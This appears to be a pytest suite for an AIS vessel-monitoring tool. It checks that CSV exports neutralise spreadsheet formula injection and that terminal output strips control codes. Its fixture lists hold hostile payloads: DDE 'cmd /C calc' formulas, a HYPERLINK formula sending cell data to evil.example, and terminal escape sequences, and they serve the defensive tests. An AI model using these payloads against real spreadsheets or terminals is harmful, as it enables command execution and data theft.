"""AIS text from strangers: no CSV cell a spreadsheet would run, no control code on a terminal."""

from __future__ import annotations

import csv
import io
import os
import pty
import re
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import polars as pl
from click.testing import CliRunner
from report_fixtures import call, inputs

from monitor.cli import main
from monitor.core.safe_csv import csv_text, spreadsheet_safe, write_csv
from monitor.core.terminal import terminal_text
from monitor.report import build_report
from monitor.report.exports import calls_csv, export_calls
from monitor.schema import CALLS_WITH_POSITION_SCHEMA
from monitor.simulate.truth import read_truth_csv
from monitor.store.table import atomic_write_parquet

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["EVER GIVEN", "A-1", "ONE=TWO", "'QUOTED", ""]
TERMINAL_ATTACKS = [
    "\x1b]0;owned\x07TITLE",  # window title
    "\x1b[2J\x1b[HCLEAR",  # clear screen
    "\x1b[8mHIDDEN\x1b[0m",
    "C1\x9b31mRED",
    "BELL\x07\x08\x7f",
    "\u202eRTL",  # right-to-left override
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _calls(names: list[str]) -> pl.DataFrame:
    start = datetime(2024, 5, 3, 1, tzinfo=UTC)
    rows = [
        call(
            call_id=f"c{i}",
            mmsi=211000000 + i,
            vessel_name=name,
            callsign=name,
            destination=name,
            port_id="NAMPO",
            port_name="Nampo",
            arrival_utc=start + timedelta(hours=i),
            departure_utc=start + timedelta(hours=i + 1),
            duration_h=1.0,
            lat=-38.7,
            lon=-125.3,
        )
        for i, name in enumerate(names)
    ]
    return pl.DataFrame(rows, schema=CALLS_WITH_POSITION_SCHEMA)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _assert_no_formula(text: str) -> None:
    """Assert that no cell but a plain number starts like a formula."""
    rows = _cells(text)
    assert len(rows) > 1
    for row in rows:
        for cell in row:
            assert _is_number(cell) or not cell.startswith(TRIGGERS), cell


def test_formula_cells_are_neutralised_and_harmless_ones_kept() -> None:
    frame = pl.DataFrame({"name": FORMULAS + HARMLESS, "lat": [-1.5] * 12})
    safe = spreadsheet_safe(frame)
    assert safe["name"].to_list() == ["'" + f for f in FORMULAS] + HARMLESS
    # Numbers stay numbers (a negative latitude is not a formula).
    assert safe["lat"].to_list() == [-1.5] * 12
    text = csv_text(frame)
    _assert_no_formula(text)
    assert _cells(text)[1] == ["'" + FORMULAS[0], "-1.5"]


def test_export_calls_csv_neutralises_formulas(tmp_path: Path) -> None:
    calls = _calls(FORMULAS)
    for text in (calls_csv(calls), export_calls(calls, "csv", None)):
        assert text is not None
        _assert_no_formula(text)
        assert "'=cmd|' /C calc'!A0" in text
    export_calls(calls, "csv", tmp_path / "calls.csv")
    written = (tmp_path / "calls.csv").read_bytes().decode("utf-8")
    assert written == calls_csv(calls)


def test_the_report_calls_csv_neutralises_formulas() -> None:
    fixture = inputs()
    hostile = fixture.calls.with_columns(
        vessel_name=pl.Series(FORMULAS[: fixture.calls.height]),
        callsign=pl.lit("@A1"),
    )
    fixture.calls = hostile
    content = build_report(fixture)
    rows = _cells(content.files["calls.csv"])
    header = rows[0]
    _assert_no_formula(content.files["calls.csv"])
    names = [row[header.index("vessel_name")] for row in rows[1:]]
    assert "'" + FORMULAS[0] in names


def test_csv_files_neutralise_formulas_and_read_back_as_they_were(tmp_path: Path) -> None:
    path = tmp_path / "vessels.csv"
    write_csv(pl.DataFrame({"vessel_name": FORMULAS + HARMLESS[:-1]}), path)
    _assert_no_formula(path.read_text(encoding="utf-8"))
    back = read_truth_csv(path, {"vessel_name": pl.String()})
    assert back["vessel_name"].to_list() == FORMULAS + HARMLESS[:-1]


def test_one_csv_writer_in_the_package() -> None:
    package = Path(__file__).resolve().parents[1] / "monitor"
    writers = [
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if re.search(r"\.write_csv\(|csv\.writer\(|csv\.DictWriter\(", path.read_text("utf-8"))
    ]
    assert writers == ["core/safe_csv.py"]


def test_terminal_text_has_no_control_codes() -> None:
    for attack in TERMINAL_ATTACKS:
        clean = terminal_text(attack)
        assert not CONTROL.search(clean), repr(clean)
        assert "\x1b" not in clean
    assert terminal_text("\x1b]0;owned\x07TITLE") == "TITLE"
    assert terminal_text("\x1b[2J\x1b[HCLEAR") == "CLEAR"
    assert terminal_text("two\nlines\tand tab") == "two lines and tab"
    assert terminal_text("two\nlines", keep_newlines=True) == "two\nlines"
    assert terminal_text("ÅLESUND 北京 [bold]") == "ÅLESUND 北京 [bold]"


def test_monitor_calls_prints_no_control_codes(tmp_path: Path) -> None:
    store = tmp_path / "store"
    names = [*TERMINAL_ATTACKS, "[red]MARKUP[/red]"]
    atomic_write_parquet(_calls(names), store / "calls" / "calls.parquet")
    result = CliRunner().invoke(main, ["calls", "--store", str(store)], env={"COLUMNS": "400"})
    assert result.exit_code == 0, result.output
    assert not CONTROL.search(result.output), repr(result.output)
    for visible in ("TITLE", "CLEAR", "HIDDEN", "RED", "RTL", "[red]MARKUP[/red]"):
        assert visible in result.output


def test_export_to_a_terminal_prints_no_control_codes(tmp_path: Path) -> None:
    store = tmp_path / "store"
    atomic_write_parquet(_calls(TERMINAL_ATTACKS), store / "calls" / "calls.parquet")
    result = CliRunner().invoke(main, ["export", "calls", "--store", str(store)])
    assert result.exit_code == 0
    # Not a terminal: the CSV is written as stored, for the program that reads it.
    assert "\x1b]0;owned" in result.output


def test_error_messages_and_input_names_print_no_control_codes(tmp_path: Path) -> None:
    hostile = tmp_path / "feed\x1b[2J.csv"
    # A C1 control (CSI) in the header: text, but a terminal would obey it.
    hostile.write_text("\x9b2JA,B,C\n1,2,3\n", encoding="utf-8")
    good = tmp_path / "good.csv"
    good.write_text("MMSI,BaseDateTime,LAT,LON\n366000001,2024-05-01T00:00:00,37.5,-122.3\n")
    result = CliRunner().invoke(
        main, ["ingest", str(hostile), str(good), "--store", str(tmp_path / "store")]
    )
    assert result.exit_code == 1
    assert "CSV header not recognised" in result.output
    assert not CONTROL.search(result.output), repr(result.output)


def test_export_on_a_real_terminal_prints_no_control_codes(tmp_path: Path) -> None:
    store = tmp_path / "store"
    atomic_write_parquet(_calls(TERMINAL_ATTACKS), store / "calls" / "calls.parquet")
    primary, secondary = pty.openpty()
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
    command = [sys.executable, "-c", "from monitor.cli import main; main()"]
    command += ["export", "calls", "--store", str(store)]
    process = subprocess.Popen(command, stdout=secondary, stderr=secondary, env=env)
    os.close(secondary)
    output = b""
    while True:
        try:
            block = os.read(primary, 65536)
        except OSError:  # the terminal closes when the process ends
            break
        if not block:
            break
        output += block
    os.close(primary)
    assert process.wait(timeout=60) == 0, output
    text = output.decode("utf-8")
    assert "TITLE" in text and "CLEAR" in text
    assert not CONTROL.search(text.replace("\r\n", "\n")), repr(text)


def test_listings_as_csv_neutralise_formulas(tmp_path: Path) -> None:
    store = tmp_path / "store"
    atomic_write_parquet(_calls(FORMULAS), store / "calls" / "calls.parquet")
    result = CliRunner().invoke(main, ["calls", "--store", str(store), "--format", "csv"])
    assert result.exit_code == 0, result.output
    _assert_no_formula(result.output)
    assert "'=cmd|' /C calc'!A0" in result.output
